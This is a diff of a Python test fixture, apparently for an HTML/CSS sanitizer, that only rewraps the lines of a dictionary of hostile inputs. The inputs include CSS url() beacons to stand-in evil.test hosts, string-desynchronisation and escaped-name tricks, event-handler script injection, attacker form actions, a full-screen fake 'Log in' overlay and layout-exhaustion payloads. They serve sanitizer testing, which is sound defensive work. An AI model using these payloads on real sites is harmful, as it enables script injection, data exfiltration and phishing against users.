@@ -177,39 +177,51 @@ HOSTILE = {
         '<p style="background:-webkit-image-set(url(http://f1.evil.test/) 1x)">x<p style="background:-webkit-cross-fade(url(http://f2.evil.test/),red,50%)">x'
         '<p style="mask-image:url(http://f3.evil.test/)">x<p style="-webkit-mask-box-image:url(http://f4.evil.test/)">x<p style="shape-outside:url(http://f5.evil.test/);float:left">x'
         '<p style="filter:url(http://f6.evil.test/#a)">x<p style="clip-path:url(http://f7.evil.test/#a)">x<p style="offset-path:url(http://f8.evil.test/#a)">x'
-        '<p style="border-image:url(http://f9.evil.test/) 1;border:1px solid">x<p title="http://f10.evil.test/" style="background:image-set(attr(title))">x<p style="-webkit-box-reflect:below 0 url(http://f11.evil.test/)">x'
+        '<p style="border-image:url(http://f9.evil.test/) 1;border:1px solid">x<p title="http://f10.evil.test/" style="background:image-set(attr(title))">'
+        'x<p style="-webkit-box-reflect:below 0 url(http://f11.evil.test/)">x'
     ),
     "strings that desynchronise": (
         "<style>p{content:'a\f;background:url(http://d1.evil.test/);'}p{--x:/*}b{--y:'*/ url(http://d2.evil.test/)'}p{--z:\"\n;background:url(http://d3.evil.test/)}"
-        'p[title="\f]{}i{background:url(http://d4.evil.test/)}"]{color:red}p{--p:(}i{background:url(http://d5.evil.test/)})}p{--b:[}i{background:url(http://d6.evil.test/)}]}</style><p title=x>x<i>y</i>'
+        'p[title="\f]{}i{background:url(http://d4.evil.test/)}"]{color:red}p{--p:(}i{background:url(http://d5.evil.test/)})}p{--b:[}i{background:url(http://d6.evil.test/)}]}</style>'
+        "<p title=x>x<i>y</i>"
         '<p style="font-family:\'&#12;;background:url(http://d7.evil.test/)\'">x<p style="font-family:x\\;background:url(http://d8.evil.test/)">x'
     ),
     "rules in conditions": (
         "<style>@supports (display:grid){@import 'http://c1.evil.test/';@font-face{font-family:z;src:url(http://c2.evil.test/)}p{list-style:url(http://c3.evil.test/);font-family:z}}"
         "@supports (background:url(http://c4.evil.test/)){p{color:red}}@supports(x:y}p{background:url(http://c5.evil.test/)}{}@layer a{p{cursor:url(http://c6.evil.test/),auto}}"
         "@container (min-width:0){p{border-image:url(http://c7.evil.test/)}}@media (min-width:0){p{&{mask:url(http://c8.evil.test/)}}}@page{background:url(http://c9.evil.test/)}"
-        "@keyframes k{to{list-style-image:url(http://c10.evil.test/)}}@document url(http://c11.evil.test/){p{}}@counter-style s{system:cyclic;symbols:url(http://c12.evil.test/)}</style><ul><li><p>x</ul>"
+        "@keyframes k{to{list-style-image:url(http://c10.evil.test/)}}@document url(http://c11.evil.test/){p{}}@counter-style s{system:cyclic;symbols:url(http://c12.evil.test/)}</style>"
+        "<ul><li><p>x</ul>"
     ),
     "fixed over everything": (
         '<style>html,body{position:fixed;inset:-9999px;z-index:2147483647}</style><a href="http://cover.evil.test/" target=_top style="position:fixed;inset:-99999px;width:999999999px;'
-        'height:1e9px;transform:scale(999) translate3d(-9999px,0,9e9px);background:red;zoom:9">Log in</a><svg width=1e9 height=1e9 style="position:fixed;inset:0;overflow:visible"><rect x=-1e9 width=1e10 height=1e10></svg>'
+        'height:1e9px;transform:scale(999) translate3d(-9999px,0,9e9px);background:red;zoom:9">Log in</a><svg width=1e9 height=1e9 style="position:fixed;inset:0;overflow:visible">'
+        "<rect x=-1e9 width=1e10 height=1e10></svg>"
     ),
     "huge layouts": (
-        '<div style="display:grid;grid-template-columns:repeat(9999999,1px);grid-auto-rows:9e9px"><p style="grid-area:9999999/9999999">x</div><div style="columns:9999999;column-gap:9e9px">x</div>'
+        '<div style="display:grid;grid-template-columns:repeat(9999999,1px);grid-auto-rows:9e9px"><p style="grid-area:9999999/9999999">x</div><div style="columns:9999999;'
+        'column-gap:9e9px">x</div>'
         f'<div style="{"".join(f"--a{n}:var(--a{n + 1}) var(--a{n + 1});" for n in range(99))}--a99:x;margin:var(--a0);width:{"calc(" * 99}1px{")" * 99}">x</div>'
     ),
     "fields that are active": (
-        f'<form action=http://field1.evil.test/><button formaction=http://field2.evil.test/ onclick="{RUN}" autofocus onfocus="{RUN}">x</button><input disabled=false type=image src=http://field3.evil.test/>'
+        f'<form action=http://field1.evil.test/><button formaction=http://field2.evil.test/ onclick="{RUN}" autofocus onfocus="{RUN}">x</button>'
+        "<input disabled=false type=image src=http://field3.evil.test/>"
         f'<input list=l oninput="{RUN}" autofocus><input type=submit formaction="javascript:{RUN}"><button popovertarget=p command=show-popover commandfor=p>y</button><p popover id=p>z'
-        f'<label for=i>q</label><input id=i type=file accept=x onchange="{RUN}"><keygen autofocus onfocus="{RUN}"><output form=x></output></form><button type=submit form=x disabled=""disabled>x'
+        f'<label for=i>q</label><input id=i type=file accept=x onchange="{RUN}"><keygen autofocus onfocus="{RUN}"><output form=x></output></form>'
+        '<button type=submit form=x disabled=""disabled>x'
     ),
     "own document as an image": (
-        "<p id=a style=\"background:url(#a);list-style-image:url('#a');mask:url(#a);filter:url(#a);cursor:url(#a),auto;border-image:url(#a)\">x<svg><rect fill=url(#a) mask=url(#a) /><image href=#a /></svg>"
+        "<p id=a style=\"background:url(#a);list-style-image:url('#a');mask:url(#a);filter:url(#a);cursor:url(#a),auto;border-image:url(#a)\">x<svg><rect fill=url(#a) mask=url(#a) />"
+        "<image href=#a /></svg>"
         '<p style="background:url(/messages/last)">x<p style="background:url(?q=1)">x<img src="" srcset="/queue 1x"><p style="background:url()">x'
     ),
     "environment": '<p style="background:env(x,url(http://e1.evil.test/));width:env(safe-area-inset-top,attr(title));content:attr(title url)" title=http://e2.evil.test/>x',
-    "names with escapes": r"<style>@\69mport 'http://n1.evil.test/';p{b\61 ckground:\55RL(http://n2.evil.test/);ba\ckground:u\rl(http://n3.evil.test/)}@im\port url(http://n4.evil.test/)</style><p>x",
-    "speculation rules": '<script type=speculationrules>{"prefetch":[{"urls":["http://spec.evil.test/"]}]}</script><script type=importmap>{"imports":{"a":"http://map.evil.test/"}}</script><template shadowrootmode=open><img src=http://shadow.evil.test/></template>',
-    "dialogs": f'<dialog open onclose="{RUN}"><form method=dialog><button>x</button></form></dialog><details open ontoggle="{RUN}"><summary>x</summary><img src=x onerror="{RUN}"></details><p contenteditable autofocus onfocus="{RUN}">y',
-    "namespaces": f'<html xmlns:x="http://ns1.evil.test/"><x:script>{RUN}</x:script><svg:svg onload="{RUN}"/><html:img src=x onerror="{RUN}"/><?xml-stylesheet href="http://ns2.evil.test/"?><!ENTITY a SYSTEM "http://ns3.evil.test/"><xml src=http://ns4.evil.test/>',
+    "names with escapes": r"<style>@\69mport 'http://n1.evil.test/';p{b\61 ckground:\55RL(http://n2.evil.test/);ba\ckground:u\rl(http://n3.evil.test/)}"
+    r"@im\port url(http://n4.evil.test/)</style><p>x",
+    "speculation rules": '<script type=speculationrules>{"prefetch":[{"urls":["http://spec.evil.test/"]}]}</script><script type=importmap>{"imports":{"a":"http://map.evil.test/"}}'
+    "</script><template shadowrootmode=open><img src=http://shadow.evil.test/></template>",
+    "dialogs": f'<dialog open onclose="{RUN}"><form method=dialog><button>x</button></form></dialog><details open ontoggle="{RUN}"><summary>x</summary><img src=x onerror="{RUN}">'
+    f'</details><p contenteditable autofocus onfocus="{RUN}">y',
+    "namespaces": f'<html xmlns:x="http://ns1.evil.test/"><x:script>{RUN}</x:script><svg:svg onload="{RUN}"/><html:img src=x onerror="{RUN}"/>'
+    '<?xml-stylesheet href="http://ns2.evil.test/"?><!ENTITY a SYSTEM "http://ns3.evil.test/"><xml src=http://ns4.evil.test/>',
 }
